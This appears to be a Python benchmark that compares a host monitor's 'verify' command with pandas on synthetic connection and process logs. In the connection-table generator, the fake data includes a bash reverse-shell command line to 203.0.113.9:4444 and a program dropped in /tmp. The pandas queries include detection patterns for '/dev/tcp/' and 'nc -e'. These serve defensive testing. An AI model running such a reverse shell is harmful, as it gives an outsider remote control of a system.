#!/usr/bin/env python3
"""What a monitor wrote down, verified: `atalaya verify` beside pandas on the same tables, and over a database.

    python3 benches/verify.py [--rows 2000000] [--rounds 3] [--store FILE] [--pandas PYTHON] [--no-build]

Makes a table of connections and one of processes, as `atalaya watch` writes them, and asks both the same of each:
sums by process, address, port and pair, what is rare, what listens, suspicious folders; names with several digests,
paths or command lines. Prints a table for docs/benchmarks.md: medians of CPU seconds, wall time and peak memory.
PYTHON is one that has pandas (python3 -m venv …; pip install pandas). `--store` names a database of any size.
"""

import argparse
import random
import subprocess
import sys
import tempfile
from pathlib import Path

import measure

PANDAS_NETWORK = """
import sys, ipaddress, pandas as pd
d = pd.read_csv(sys.argv[1], parse_dates=['timestamp'])
listening = d[d.state == 'LISTEN'].groupby(['protocol', 'local_address', 'local_port', 'process']).size()
c = d[d.state != 'LISTEN']
opened, closed = c[c.event == 'opened'], c[c.event == 'closed']
print(len(d), len(opened), len(closed), opened.timestamp.min(), closed.timestamp.max())
by_process = opened.groupby('process').size().sort_values(ascending=False)
by_address = opened.groupby('remote_address').size().sort_values(ascending=False)
port = opened.remote_port.where(opened.direction != 'inbound', opened.local_port)
by_port = opened.groupby([opened.protocol, port]).size().sort_values(ascending=False)
by_endpoint = opened.groupby([opened.remote_address, opened.protocol, port]).size()
by_bytes = closed.groupby(['process', 'remote_address'])[['sent_bytes', 'received_bytes']].sum()
by_bytes = by_bytes.sum(axis=1).sort_values(ascending=False)
times = c.groupby('remote_address').timestamp.agg(['min', 'max'])
private = pd.Series({a: ipaddress.ip_address(a).is_private for a in by_address.index})
print(by_process.head(20), by_address.head(20), by_port.head(20), by_bytes.head(20), listening)
print((by_address <= 3).sum(), (by_endpoint <= 3).sum(), (by_process <= 3).sum(), by_address[private].sum())
programs = opened.groupby(['process', 'path', 'command_line']).size().reset_index()
print(programs[programs.path.str.contains('/tmp/|/dev/shm/')], programs[programs.command_line.str.contains('/dev/tcp/|nc -e')])
"""

PANDAS_PROCESSES = """
import sys, pandas as pd
d = pd.read_csv(sys.argv[1], parse_dates=['timestamp'])
ways = d.groupby(['name', 'sha256', 'path', 'command_line'], dropna=False).agg(
    count=('pid', 'size'), pid=('pid', 'first'), user=('user', 'first'), first=('timestamp', 'min'),
    last=('timestamp', 'max'), connections=('connections', 'first')).reset_index()
several = ways.groupby('name')[['sha256', 'path', 'command_line']].nunique()
several = several[(several > 1).any(axis=1)]
print(ways[ways.name.isin(several.index)])
for column in ('name', 'sha256', 'path', 'command_line'):
    counts = d.groupby(column).size()
    print(counts[counts <= 3])
print(ways[ways.path.str.contains('/tmp/|/dev/shm/', na=False)])
"""


def moment(second):
    """A time as we write it."""
    minutes, seconds = divmod(second, 60)
    hours, minutes = divmod(minutes, 60)
    days, hours = divmod(hours, 24)
    return f"2026-11-{1 + days % 28:02}T{hours:02}:{minutes:02}:{seconds:02}.123456Z"


def connections(path, rows):
    """A table of connections: 150 programs, 60,000 addresses, some of them once."""
    source = random.Random(1)
    programs = [(1000 + n, f"program-{n}", f"/usr/bin/program-{n}", f"/usr/bin/program-{n} --serve {n}") for n in range(150)]
    programs[7] = (1007, "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
    programs[8] = (1008, "dropped", "/tmp/.x/dropped", "/tmp/.x/dropped")
    ports = [443] * 20 + [80] * 5 + [53] * 5 + [22, 25, 587, 993, 5432, 8080, 9418]
    with open(path, "w", encoding="utf-8") as out:
        out.write(
            "timestamp,event,pid,process,path,command_line,protocol,local_address,local_port,remote_address,remote_port,"
            "state,sent_bytes,received_bytes,user,direction,outcome,name\n"
        )
        out.write(f"{moment(0)},opened,1,sshd,/usr/sbin/sshd,/usr/sbin/sshd -D,tcp,0.0.0.0,22,,,LISTEN,,,root,,,\n")
        for number in range(rows // 2):
            pid, name, program, line = programs[int(len(programs) * source.random() ** 3)]
            place = int(60_000 ** source.random()) if number % 50 else 60_000 + number
            remote = f"{'10.1' if place % 5 == 0 else '198.18'}.{place >> 8 & 255}.{place & 255}"
            port = ports[number % len(ports)]
            row = f"{pid},{name},{program},{line},tcp,192.0.2.1,{32_768 + number % 28_000},{remote},{port}"
            second = number * 600_000 // rows
            sent, received = number % 5_000, number % 90_000
            out.write(f"{moment(second)},opened,{row},ESTABLISHED,0,0,ana,outbound,unknown,\n")
            out.write(f"{moment(second + 3)},closed,{row},CLOSE,{sent},{received},ana,outbound,finished,\n")


def processes(path, rows):
    """A table of processes: 400 of them at each scan, a few with a second digest."""
    with open(path, "w", encoding="utf-8") as out:
        out.write("timestamp,pid,name,user,path,command_line,sha256,connections,connection_count,parent_pid\n")
        for number in range(rows):
            scan, which = divmod(number, 400)
            digest = f"{which:064x}" if which or scan % 1_000 else "f" * 64
            out.write(
                f"{moment(scan * 120)},{1000 + which},program-{which},ana,/usr/bin/program-{which},"
                f"/usr/bin/program-{which} --serve {which % 7},{digest},"
                f"tcp 192.0.2.1:{40_000 + which} -> 198.51.100.7:443 (ESTABLISHED),1,1\n"
            )


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("--rows", type=int, default=2_000_000)
    options.add_argument("--rounds", type=int, default=3)
    options.add_argument("--store")
    options.add_argument("--pandas", default=sys.executable)
    options.add_argument("--no-build", action="store_true")
    options = options.parse_args()
    if not options.no_build:
        measure.release()
    has_pandas = subprocess.run([options.pandas, "-c", "import pandas"], capture_output=True).returncode == 0
    if not has_pandas:
        print(f"no pandas in {options.pandas}: left out", file=sys.stderr)
    atalaya = str(measure.ATALAYA)
    with tempfile.TemporaryDirectory() as folder:
        tables = {"network": Path(folder, "connection_events.csv"), "processes": Path(folder, "processes.csv")}
        connections(tables["network"], options.rows)
        processes(tables["processes"], options.rows)
        commands = {}
        for verb, script in (("network", PANDAS_NETWORK), ("processes", PANDAS_PROCESSES)):
            table = str(tables[verb])
            what = f"{verb}, {options.rows:,} rows, {tables[verb].stat().st_size / 1e6:.0f} MB of CSV"
            commands[what, "atalaya"] = [atalaya, "verify", verb, table, "--output", "json"]
            if has_pandas:
                commands[what, "pandas"] = [options.pandas, "-c", script, table]
        if options.store:
            for verb in ("network", "processes"):
                commands[f"{verb}, {options.store}", "atalaya"] = [
                    atalaya, "verify", verb, "--store", options.store, "--output", "json",
                ]
        costs = {key: [] for key in commands}
        for _ in range(options.rounds):
            for key, command in commands.items():
                result = measure.cost(command)
                if result[3] not in (0, 1):
                    sys.exit(f"{key} ended with {result[3]}")
                costs[key].append(result)
    print(f"{measure.machine()}; medians of {options.rounds} rounds\n")
    print("| verify | with | CPU s | wall s | peak MB |\n|---|---|---|---|---|")
    for (what, tool), results in costs.items():
        cpu, wall, memory = (measure.median([result[place] for result in results]) for place in (0, 1, 2))
        print(f"| {what} | `{tool}` | {cpu:.2f} | {wall:.2f} | {memory:.0f} |", flush=True)


main()
